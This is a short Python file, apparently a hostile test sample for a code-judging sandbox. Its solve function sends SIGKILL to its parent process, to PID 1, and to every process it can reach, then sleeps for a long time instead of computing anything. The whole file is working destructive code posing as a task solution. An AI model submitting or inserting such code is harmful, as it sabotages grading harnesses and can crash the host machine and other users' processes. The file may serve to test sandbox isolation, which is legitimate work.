"""Kills its parent and everything that it sees."""

import os
import signal
import time

def solve(x):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(1000)
